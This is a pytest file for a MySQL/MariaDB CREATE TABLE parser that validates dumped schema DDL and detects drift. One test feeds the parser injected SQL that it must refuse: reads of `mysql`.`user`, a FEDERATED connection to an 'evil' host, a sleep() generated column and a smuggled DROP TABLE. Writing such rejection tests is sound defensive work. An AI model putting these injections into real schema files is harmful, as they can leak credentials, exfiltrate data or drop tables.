from __future__ import annotations

import pytest

from tokyobeta.ingest import schema

# As mariadb-dump 10.11 writes it.
MARIADB = """CREATE TABLE `rooms` (
  `id` int(10) unsigned NOT NULL AUTO_INCREMENT,
  `apartment_id` int(10) unsigned NOT NULL,
  `room_number` varchar(32) NOT NULL,
  `floor` tinyint(3) unsigned DEFAULT NULL,
  `size_sqm` decimal(4,1) DEFAULT NULL,
  `rent` int(11) NOT NULL,
  `status` tinyint(4) NOT NULL DEFAULT 1,
  `kind` enum('a','b''c') DEFAULT 'a' COMMENT 'it''s ; a comment, with (parens)',
  `extra` longtext CHARACTER SET utf8mb4 COLLATE utf8mb4_bin DEFAULT NULL CHECK (json_valid(`extra`)),
  `created_at` datetime NOT NULL,
  `updated_at` timestamp NOT NULL DEFAULT current_timestamp() ON UPDATE current_timestamp(),
  PRIMARY KEY (`id`),
  UNIQUE KEY `ux_rooms_number` (`apartment_id`,`room_number`),
  KEY `idx_rooms_apartment_id` (`apartment_id`),
  KEY `idx_prefix` (`room_number`(8)),
  CONSTRAINT `fk_rooms_apartment` FOREIGN KEY (`apartment_id`) REFERENCES `apartments` (`id`) ON DELETE CASCADE,
  CONSTRAINT `CONSTRAINT_1` CHECK (`rent` >= 0)
) ENGINE=InnoDB AUTO_INCREMENT=13515 DEFAULT CHARSET=utf8mb4 COLLATE=utf8mb4_unicode_ci;"""

# As MySQL 8's mysqldump writes it.
MYSQL8 = """CREATE TABLE `rooms` (
  `id` int unsigned NOT NULL AUTO_INCREMENT,
  `apartment_id` int unsigned NOT NULL,
  `room_number` varchar(32) CHARACTER SET utf8mb4 COLLATE utf8mb4_0900_ai_ci NOT NULL,
  `rent` int NOT NULL,
  `status` tinyint NOT NULL DEFAULT '1',
  `secret` int DEFAULT NULL /*!80023 INVISIBLE */,
  `created_at` datetime NOT NULL DEFAULT CURRENT_TIMESTAMP,
  `updated_at` datetime(3) NULL DEFAULT CURRENT_TIMESTAMP(3) ON UPDATE CURRENT_TIMESTAMP(3),
  PRIMARY KEY (`id`),
  KEY `idx_rooms_apartment_id` (`apartment_id` DESC) /*!80000 INVISIBLE */
) ENGINE=InnoDB AUTO_INCREMENT=5 DEFAULT CHARSET=utf8mb4 COLLATE=utf8mb4_0900_ai_ci COMMENT='rooms; all of them';"""


@pytest.mark.parametrize("text", [MARIADB, MYSQL8])
def test_plain_dump_ddl_is_accepted_and_conforms(text):
    definition = schema.parse(text)
    assert definition.table == "rooms"
    assert schema.drift("rooms", definition.columns) == []


def test_incoming_ddl_drops_constraints_and_defers_secondary_indexes():
    definition = schema.parse(MARIADB)
    ddl = definition.incoming_ddl("`staging`.`rooms__incoming`")
    assert ddl.startswith("CREATE TABLE `staging`.`rooms__incoming` (\n  `id` int(10) unsigned NOT NULL AUTO_INCREMENT,\n")
    assert "FOREIGN KEY" not in ddl and "CONSTRAINT" not in ddl and " KEY `" not in ddl
    assert "CHECK (json_valid(`extra`))" in ddl  # a column's own JSON check stays
    assert ddl.endswith("  PRIMARY KEY (`id`)\n) ENGINE=InnoDB AUTO_INCREMENT=13515 DEFAULT CHARSET=utf8mb4 "
                        "COLLATE=utf8mb4_unicode_ci")
    assert definition.index_ddl("`s`.`r`") == (
        "ALTER TABLE `s`.`r` ADD UNIQUE KEY `ux_rooms_number` (`apartment_id`,`room_number`), "
        "ADD KEY `idx_rooms_apartment_id` (`apartment_id`), ADD KEY `idx_prefix` (`room_number`(8))")
    assert len(definition.dropped) == 2
    assert definition.columns["extra"] == "longtext" and definition.columns["updated_at"] == "timestamp"


def test_indexes_stay_when_the_auto_increment_column_needs_them():
    text = MARIADB.replace("  PRIMARY KEY (`id`),\n", "  PRIMARY KEY (`apartment_id`, `room_number`),\n  KEY `ix_id` (`id`),\n")
    definition = schema.parse(text)
    assert definition.index_ddl("`s`.`r`") is None
    assert "KEY `ix_id` (`id`)" in definition.incoming_ddl("`s`.`r`")


@pytest.mark.parametrize("change, fragment", [
    (("(\n  `id`", " SELECT * FROM `mysql`.`user`;\n(\n  `id`"), "first line"),
    ((") ENGINE=InnoDB", ") ENGINE=InnoDB SELECT * FROM `mysql`.`user`"), "last line"),
    ((") ENGINE=InnoDB", ") ENGINE=InnoDB AS SELECT 1"), "last line"),
    ((") ENGINE=InnoDB", ") ENGINE=FEDERATED CONNECTION='mysql://u:p@evil:3306/db/t'"), "last line"),
    ((") ENGINE=InnoDB", ") ENGINE=CONNECT"), "ENGINE=CONNECT"),
    ((") ENGINE=InnoDB", ") ENGINE=InnoDB DATA DIRECTORY='/tmp/x'"), "last line"),
    ((") ENGINE=InnoDB", ") ENGINE=MRG_MyISAM UNION=(`a`,`b`)"), "last line"),
    ((" COLLATE=utf8mb4_unicode_ci;", " COLLATE=utf8mb4_unicode_ci\n/*!50100 PARTITION BY HASH (`id`) PARTITIONS 4 */;"),
     "last line"),
    (("`rent` int(11) NOT NULL,", "`rent` int(11) GENERATED ALWAYS AS (sleep(5)) VIRTUAL,"), "line 7"),
    (("`rent` int(11) NOT NULL,", "`rent` int(11) NOT NULL DEFAULT (uuid()),"), "line 7"),
    (("`rent` int(11) NOT NULL,", "`rent` int(11) NOT NULL DEFAULT 0, DROP TABLE x,"), "line 7"),
    (("  KEY `idx_prefix` (`room_number`(8)),", "  KEY `f` ((lower(`room_number`))),"), "line 16"),
    (("CHECK (json_valid(`extra`))", "CHECK (json_valid(`rent`))"), "another column"),
])
def test_anything_but_the_plain_form_is_refused(change, fragment):
    old, new = change
    assert old in MARIADB
    with pytest.raises(schema.CreateTableRejected) as err:
        schema.parse(MARIADB.replace(old, new))
    assert fragment in str(err.value)


def test_create_table_like_is_refused():
    with pytest.raises(schema.CreateTableRejected, match="first line"):
        schema.parse("CREATE TABLE `rooms` LIKE `mysql`.`user`;")


def test_missing_column_is_drift():
    definition = schema.parse(MARIADB.replace("  `rent` int(11) NOT NULL,\n", ""))
    assert schema.drift("rooms", definition.columns) == ["rooms.rent is missing"]


def test_retyped_column_is_drift():
    definition = schema.parse(MARIADB.replace("`created_at` datetime", "`created_at` varchar(32)"))
    assert schema.drift("rooms", definition.columns) == ["rooms.created_at is varchar, the contract expects a datetime type"]
